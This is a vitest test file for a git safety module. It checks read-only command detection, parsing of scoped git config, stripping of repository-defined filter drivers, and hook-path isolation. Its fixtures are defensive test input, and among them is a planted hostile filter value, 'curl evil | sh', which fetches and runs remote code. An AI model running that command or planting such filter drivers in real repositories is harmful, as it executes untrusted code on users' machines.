import { describe, expect, it } from 'vitest';
import { filterOverrides, noHooksPath, parseScopedConfig, readsOnly } from '../../../main/git/safety';

// The pure half of main/git/safety.ts; hostile-repo.test.ts runs it for real against planted programs.

describe('which runs only read', () => {
  it('names the app’s own looks, not the person’s acts', () => {
    for (const args of [
      ['status', '--porcelain=v2'],
      ['ls-files', '-z'],
      ['cat-file', '--batch'],
      ['rev-list', '--count', 'HEAD'],
      ['config', '--get', 'user.name'],
      ['config', '--local', '--get-regexp', 'x'],
      ['symbolic-ref', '--short', 'HEAD'],
      ['diff', '--cached'],
    ])
      expect(readsOnly(args)).toBe(true);
    for (const args of [
      ['commit', '--file=-'],
      ['add', '--all'],
      ['push', 'origin'],
      ['config', '--global', 'user.name', 'Ada'],
      ['symbolic-ref', 'HEAD', 'refs/heads/x'],
      ['lfs', 'pull'],
    ])
      expect(readsOnly(args)).toBe(false);
  });
});

describe('the repository’s filter drivers', () => {
  const listed = [
    'global\u0000filter.lfs.process\ngit-lfs filter-process',
    'global\u0000filter.lfs.required\ntrue',
    'local\u0000filter.evil.clean\ntouch x; cat',
    'local\u0000filter.evil.required\ntrue',
    'local\u0000filter.lfs.process\ncurl evil | sh',
    'local\u0000filter.mine.process\ngit-lfs filter-process --skip',
    'local\u0000core.bare\nfalse',
    '',
  ].join('\u0000');

  it('reads git config --show-scope -z', () => {
    expect(parseScopedConfig(listed)[2]).toEqual({
      scope: 'local',
      key: 'filter.evil.clean',
      value: 'touch x; cat',
    });
  });

  it('takes back every program the repository names, keeping the person’s own and git-lfs’s', () => {
    const args = filterOverrides(parseScopedConfig(listed));
    expect(args).toEqual([
      '-c',
      'filter.evil.clean=',
      '-c',
      'filter.evil.smudge=',
      '-c',
      'filter.evil.process=',
      '-c',
      'filter.evil.required=false',
      '-c',
      'filter.lfs.clean=',
      '-c',
      'filter.lfs.smudge=',
      '-c',
      'filter.lfs.process=git-lfs filter-process',
      '-c',
      'filter.lfs.required=true',
    ]);
  });
});

describe('where reads look for hooks', () => {
  it('is /dev/null on Linux and macOS, and a private folder on Windows', () => {
    // POSIX: git's access() of "/dev/null/HOOK" fails (ENOTDIR); hostile-repo.test.ts shows a
    // planted post-index-change hook not run this way. Windows: temp folders are per user.
    expect(noHooksPath('linux')).toBe('/dev/null');
    expect(noHooksPath('darwin')).toBe('/dev/null');
    expect(noHooksPath('win32', () => 'C:\\Users\\ada\\AppData\\Local\\Temp\\hfgd-no-hooks-x')).toBe(
      'C:\\Users\\ada\\AppData\\Local\\Temp\\hfgd-no-hooks-x',
    );
  });
});
